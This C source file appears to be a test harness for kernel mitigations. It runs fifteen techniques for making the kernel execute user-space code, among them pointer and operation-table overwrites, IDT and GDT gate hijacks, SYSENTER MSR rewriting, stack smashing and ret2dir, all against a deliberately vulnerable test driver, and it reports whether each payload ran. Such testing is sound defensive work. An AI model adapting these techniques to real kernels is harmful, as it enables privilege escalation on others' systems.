// ret2usr KIND|all: exploits against /dev/vuln (villains.ko) that make the kernel run code of this program. Reports "armed" before, and
// what the payload saw after; an exploit that is stopped never gets to say the second.
#include "lib/payloads.h"
#include "lib/villain.h"
#include "../module/requests.h"

enum { PAGE = 4096, KERNEL_CODE = 0x60, NOT_RUN = -1 };
enum { FREE_VECTOR = 0x42, INTERRUPT_GATE = 0xee00, FREE_SELECTOR = 0x20, CALL_GATE = 0xec00 };

static int device;
static const char *name;

static int vuln(enum vuln_operation operation, uintptr_t address, uintptr_t value) {
    struct vuln_request request = {address, value, value};
    return control(device, operation, (uintptr_t)&request);
}

static unsigned peek(uintptr_t address) {
    unsigned word = 0;
    vuln(VULN_PEEK, address, (uintptr_t)&word);
    return word;
}

// Reports that the kernel is about to be led to this address.
static void announce(uintptr_t address) { confess("ret2usr", "kind=%s stage=armed page=%x", name, address & ~(PAGE - 1u)); }
static void announce_code(const char *code) { announce((uintptr_t)code); }

// The classic: a function pointer in the kernel is overwritten with the address of user code, and then used.
static void fnptr(const struct vuln_leak *leak) {
    announce_code(payload);
    vuln(VULN_POKE, leak->handler_pointer, (uintptr_t)payload);
    vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
}

// Only one byte of it can be written: the highest. The pointer then leads to memory of this program's with the same low 24 bits.
static void partial(const struct vuln_leak *leak) {
    uintptr_t target = (leak->handler & 0xffffff) | 0x10000000;
    map(target & ~(PAGE - 1u), 2 * PAGE, MAP_PRIVATE | MAP_FIXED | MAP_ANONYMOUS, -1);
    memcpy((void *)target, moved_payload, sizeof moved_payload);
    announce(target);
    vuln(VULN_POKE_BYTE, leak->handler_pointer + 3, 0x10);
    payload_cs = vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
}

// A data pointer is enough: the table of operations is replaced by one in this program.
static void operations(const struct vuln_leak *leak) {
    static const void *own_operations[] = {payload};
    announce_code(payload);
    vuln(VULN_POKE, leak->operations_pointer, (uintptr_t)own_operations);
    vuln(VULN_OPERATIONS, 0, 0);
    vuln(VULN_POKE, leak->operations_pointer, leak->operations);
}

// The same with a structure of the kernel's own: an open file.
static void file_operations(const struct vuln_leak *unused) {
    static const void *own_operations[32];
    struct vuln_leak leak;
    int file = open("/dev/vuln", READ_WRITE);
    (void)unused;
    control(file, VULN_LEAK, (uintptr_t)&leak);
    for (int i = 1; i < 32; i++) own_operations[i] = payload;
    announce_code(payload);
    vuln(VULN_POKE, leak.file_operations_pointer, (uintptr_t)own_operations);
    control(file, VULN_LEAK, 0);
    vuln(VULN_POKE, leak.file_operations_pointer, leak.file_operations);
    close(file);
}

// What the kernel calls to go on with a system call that was interrupted is overwritten.
static void restart(const struct vuln_leak *leak) {
    announce_code(payload);
    vuln(VULN_POKE, leak->restart_pointer, (uintptr_t)payload);
    linux_call(SYS_RESTART, 0, 0, 0, 0);
    vuln(VULN_POKE, leak->restart_pointer, leak->restart);
}

struct __attribute__((packed)) table {
    uint16_t limit;
    uint32_t base;
};

static unsigned interrupt_gate(int vector) {
    struct table table;
    asm volatile("sidt %0" : "=m"(table));
    return table.base + vector * 8;
}

static void set_gate(uintptr_t gate, unsigned low, unsigned high) {
    vuln(VULN_POKE_TABLE, gate, low);
    vuln(VULN_POKE_TABLE, gate + 4, high);
}

// A gate of the IDT that nobody uses leads to the payload: INT from user mode then runs it at CPL 0.
static void idt(const struct vuln_leak *leak) {
    uintptr_t gate = interrupt_gate(FREE_VECTOR), offset = (uintptr_t)payload_interrupt;
    unsigned low = peek(gate), high = peek(gate + 4);
    (void)leak;
    announce(offset);
    set_gate(gate, KERNEL_CODE << 16 | (offset & 0xffff), (offset & 0xffff0000) | INTERRUPT_GATE);
    asm volatile("int %0" ::"i"(FREE_VECTOR) : "memory");
    set_gate(gate, low, high);
}

// A free entry of the GDT becomes a call gate to the payload: a far call is all it takes.
static void gdt(const struct vuln_leak *leak) {
    struct table table;
    asm volatile("sgdt %0" : "=m"(table));
    uintptr_t gate = table.base + FREE_SELECTOR, offset = (uintptr_t)payload_far;
    (void)leak;
    announce(offset);
    set_gate(gate, KERNEL_CODE << 16 | (offset & 0xffff), (offset & 0xffff0000) | CALL_GATE);
    asm volatile("lcall %0, $0" ::"i"(FREE_SELECTOR | 3) : "memory");
    set_gate(gate, 0, 0);
}

// The register that says where SYSENTER goes is overwritten.
static void sysenter(const struct vuln_leak *leak) {
    true_sysenter = leak->sysenter;
    announce_code(payload_sysenter);
    vuln(VULN_MSR, VULN_SYSENTER_EIP, (uintptr_t)payload_sysenter);
    sysenter_and_escape();
}

// The driver calls whatever address it is given.
static void jump(const struct vuln_leak *leak) {
    (void)leak;
    announce_code(payload);
    vuln(VULN_JUMP, (uintptr_t)payload, 0);
}

// The driver jumps there, and leaves nothing of its own on the stack.
static void tail(const struct vuln_leak *leak) {
    (void)leak;
    announce_code(payload);
    vuln(VULN_TAIL, (uintptr_t)payload, 0);
}

// A return address on the kernel's stack is overwritten by a copy that is too long.
static void overflow(const struct vuln_leak *leak) {
    static uintptr_t smash[7];
    true_return = leak->overflow_return;
    smash[6] = (uintptr_t)payload_return;
    announce_code(payload_return);
    vuln(VULN_OVERFLOW, (uintptr_t)smash, sizeof smash);
}

// The way back to user mode goes to the right address at the wrong privilege level.
static void iret(const struct vuln_leak *leak) {
    struct vuln_request request = {(uintptr_t)payload_escape, 0, 0};
    (void)leak;
    announce_code(payload_escape);
    control_and_escape(device, VULN_FRAME, (uintptr_t)&request);
}

// No pointer is touched: a page of kernel code is mapped a second time, writable for the program, and rewritten.
static void usermap(const struct vuln_leak *leak) {
    uintptr_t window = map(0, PAGE, MAP_SHARED, device) + (leak->victim & (PAGE - 1));
    unsigned char original[sizeof moved_payload];
    memcpy(original, (void *)window, sizeof original);
    memcpy((void *)window, moved_payload, sizeof moved_payload);
    announce(window);
    payload_cs = vuln(VULN_VICTIM, 0, 0);
    memcpy((void *)window, original, sizeof original);
}

// Return to direct-mapped memory: the kernel maps all memory at addresses of its own, this program's page too. The function pointer stays in
// the kernel's half, yet the code is the program's (Kemerlis et al., ret2dir, USENIX Security 2014).
static void ret2dir(const struct vuln_leak *leak) {
    static unsigned char code[sizeof moved_payload];
    unsigned alias = 0;
    memcpy(code, moved_payload, sizeof code);
    vuln(VULN_ALIAS, (uintptr_t)code, (uintptr_t)&alias);
    announce((uintptr_t)code);
    vuln(VULN_POKE, leak->handler_pointer, alias);
    payload_cs = vuln(VULN_CALL, 0, 0);
    vuln(VULN_POKE, leak->handler_pointer, leak->handler);
}

// A timer of the kernel's calls the payload, in the middle of this program's own loop.
static void timer(const struct vuln_leak *leak) {
    (void)leak;
    announce_code(payload);
    vuln(VULN_TIMER, (uintptr_t)payload, 0);
    while (payload_cs == NOT_RUN) continue;
}

static const struct exploit {
    const char *name;
    void (*run)(const struct vuln_leak *leak);
} exploits[] = {{"fnptr", fnptr}, {"partial", partial},   {"operations", operations}, {"fileops", file_operations}, {"restart", restart},
                {"idt", idt},     {"gdt", gdt},           {"sysenter", sysenter},     {"jump", jump},               {"tail", tail},
                {"iret", iret},   {"return", overflow},   {"usermap", usermap},       {"ret2dir", ret2dir},         {"timer", timer}};

enum { KINDS = sizeof exploits / sizeof *exploits };

static int attack(const struct exploit *exploit) {
    struct vuln_leak leak;
    control(device, VULN_LEAK, (uintptr_t)&leak);
    name = exploit->name;
    payload_cs = NOT_RUN;
    exploit->run(&leak);
    confess("ret2usr", "kind=%s stage=ran cs=%x cpl=%d", exploit->name, payload_cs, payload_cs & 3);
    return 0;
}

int main(int argc, char **argv) {
    const char *wanted = argc > 1 ? argv[1] : "all";
    bool all = equal(wanted, "all");
    device = open("/dev/vuln", READ_WRITE);
    if (device < 0) return fail("ret2usr", "/dev/vuln", device);
    for (int i = 0; i < KINDS; i++) {
        if (!all && !equal(wanted, exploits[i].name)) continue;
        // Each in a process of its own: being stopped may mean being killed.
        int child = fork();
        if (child == 0) exit(attack(&exploits[i]));
        wait(child, 0);
    }
    return 0;
}
